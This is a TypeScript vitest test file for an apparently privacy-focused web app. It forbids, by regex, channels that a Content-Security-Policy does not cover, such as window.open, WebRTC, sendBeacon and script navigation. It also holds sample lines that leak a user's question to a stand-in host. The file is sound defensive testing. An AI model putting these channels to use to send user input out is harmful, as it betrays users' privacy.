import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { PAGE_LIMITS } from '../../src/privacy/transparency';

/**
 * Channels no Content-Security-Policy covers: WebRTC, top-level navigation, new
 * windows, beacons. The app must never open one, let alone build its address from what the
 * citizen said; the browser test (tests/browser/channels.test.ts) watches a whole session.
 */
function sources(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? sources(path) : /\.(ts|svelte)$/.test(name) ? [path] : [];
  });
}

const FORBIDDEN: [string, RegExp][] = [
  ['window.open', /\bwindow\.open\s*\(|\bopen\s*\(\s*['"`]/],
  ['navigation by script', /\blocation\.(assign|replace)\s*\(|\blocation(\.href)?\s*=(?!=)/],
  ['WebRTC', /\b(RTCPeerConnection|webkitRTCPeerConnection|RTCDataChannel|getUserMedia)\b/],
  ['beacon, socket or event stream', /\bsendBeacon\b|\bnew\s+(WebSocket|EventSource)\b/],
  ['form sent elsewhere', /<form[^>]*\baction=/],
];

describe('channels the content security policy does not cover', () => {
  const files = [...sources('src'), ...sources('workers')];

  it('would be caught if the code opened one', () => {
    const samples = ['window.open(`https://x.example/?q=${question}`)', 'location.href = url', 'new RTCPeerConnection({ iceServers })', 'navigator.sendBeacon(u, q)', '<form action="https://x.example">'];
    samples.forEach((sample, i) => expect(FORBIDDEN[i]![1].test(sample), sample).toBe(true));
  });

  it('are never opened by the app', () => {
    expect(files.length).toBeGreaterThan(100);
    for (const file of files) {
      const text = readFileSync(file, 'utf8');
      for (const [what, re] of FORBIDDEN) expect(re.test(text), `${what} in ${file}`).toBe(false);
    }
  });

  it('links take their address from the fiches through safeHref, never from a question', () => {
    for (const file of files.filter((f) => f.endsWith('.svelte'))) {
      for (const m of readFileSync(file, 'utf8').matchAll(/\bhref=\{([^}]*)\}/g)) {
        expect(m[1], `${file}: href={${m[1]}}`).toMatch(/^safeHref\((s|hit)\.(fiche\.)?url\)$/);
      }
    }
  });

  it('the Transparence panel says what the page cannot see', () => {
    const text = PAGE_LIMITS.join(' ');
    expect(text).toMatch(/WebRTC/);
    expect(text).toMatch(/nouvel onglet/);
    expect(text).toMatch(/extensions/);
  });
});
